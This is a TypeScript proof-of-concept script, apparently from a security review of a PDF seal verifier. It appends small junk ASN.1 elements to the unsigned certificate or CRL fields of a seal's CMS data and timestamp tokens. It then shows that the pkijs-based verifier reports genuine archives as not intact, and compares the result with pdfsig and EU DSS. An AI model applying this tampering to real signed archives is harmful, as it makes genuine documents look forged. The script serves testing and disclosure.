// S3's class, by a junk element: the seal CMS's `[0] certificates` and `[1] crls` fields lie outside every
// signature (RFC 5652 §5.1), and /Contents outside the /ByteRange, so anyone may add to them in any genuine archive
// without a key. S3's fix (f2ac7ff) chooses the signer among the certificates by what is signed; but the whole
// SignedData is still decoded by one schema (pkijs), and one element it refuses in either unsigned field makes the
// seal "not a CMS SignedData": TOTAL-FAILED / FORMAT_FAILURE, "not intact or not genuine". BouncyCastle (EU DSS)
// reads those fields lazily and passes over what it does not use.
//   npx tsx scripts/attack-s8/cms-junk.ts [attr|crl|real-attr|real-crl|honest|real-honest]
// attr: samples/valid/archive.pdf, the seal's /Contents rewritten with one more element in the certificate set: an
// attribute certificate `[2]` holding an INTEGER (5 bytes). crl: one more element in `crls`: SEQUENCE { INTEGER 0 }.
// honest: the same rewrite, nothing added. real-*: the same on the broker's real archive
// (test/fixtures/real/broker-example), --at its sealing time with its own trust directory. lta, lta-honest: the
// `attr` element (or nothing) in the certificate set of samples/lta/archive.pdf's document timestamp token (the
// archivist's /Contents, rewritable by anyone alike). tst, tst-honest: the same in the certificate set of the seal's
// signature timestamp token (an unsigned attribute of the seal's SignerInfo). DSS=1 adds EU DSS.
import { readFileSync } from "node:fs";
import { dss, sample, save, sealGap, show, tool, verify, withSealContents, work } from "../attack36/lib.js";
import { lastGap, mapUnsignedAttribute, withCmsField, withLastContents } from "./lib.js";

const modes = ["attr", "crl", "real-attr", "real-crl", "lta", "tst", "honest", "real-honest", "lta-honest", "tst-honest"];
const mode = process.argv[2] ?? "attr";
if (!modes.includes(mode)) throw new Error(`mode: ${modes.join("|")}, not ${mode}`);
const real = mode.startsWith("real");
const lta = mode.startsWith("lta");
const tst = mode.startsWith("tst");
const REAL = "test/fixtures/real/broker-example";
const AT = "2025-12-08T09:35:10Z";
const base = real ? new Uint8Array(readFileSync(`${REAL}/archive.pdf`)) : sample(lta ? "lta/archive.pdf" : "valid/archive.pdf");
const { der } = lta ? lastGap(base) : sealGap(base);
const kind = lta || tst ? (mode.endsWith("honest") ? "honest" : "attr") : mode.replace(/^real-?/, "") || "honest";
const rewrite = (cms: Uint8Array) =>
  kind === "attr"
    ? withCmsField(cms, 0xa0, [new Uint8Array([0xa2, 0x03, 0x02, 0x01, 0x00])])
    : kind === "crl"
      ? withCmsField(cms, 0xa1, [new Uint8Array([0x30, 0x03, 0x02, 0x01, 0x00])])
      : withCmsField(cms, 0xa0, []);
// tst: the seal's signature timestamp token (an unsigned attribute of the seal's SignerInfo) is the one rewritten.
const cms = tst ? mapUnsignedAttribute(der, "1.2.840.113549.1.9.16.2.14", rewrite) : rewrite(der);
const file = save(work(`s8-cms-junk-${mode}`), "archive.pdf", lta ? withLastContents(base, cms) : withSealContents(base, cms));
console.log(
  `wrote ${file} (${mode}): ${real ? "the broker's real archive" : lta ? "samples/lta/archive.pdf" : "samples/valid/archive.pdf"}, the ${lta ? "document timestamp's" : tst ? "seal's signature timestamp token in the seal's" : "seal's"} /Contents rewritten${
    kind === "attr" ? " with a 5-byte [2] element added to the certificate set" : kind === "crl" ? " with a 5-byte SEQUENCE added to crls" : ", nothing added"
  }`,
);
show(mode, real ? verify(file, ["--at", AT], "", `${REAL}/trust`) : verify(file));
console.log(
  "== pdfsig:",
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature Validation|Signer Certificate Common Name/i.test(l))
    .map((l) => l.trim())
    .join(" | "),
);
dss(file, real ? AT : undefined, real ? `${REAL}/trust` : undefined);
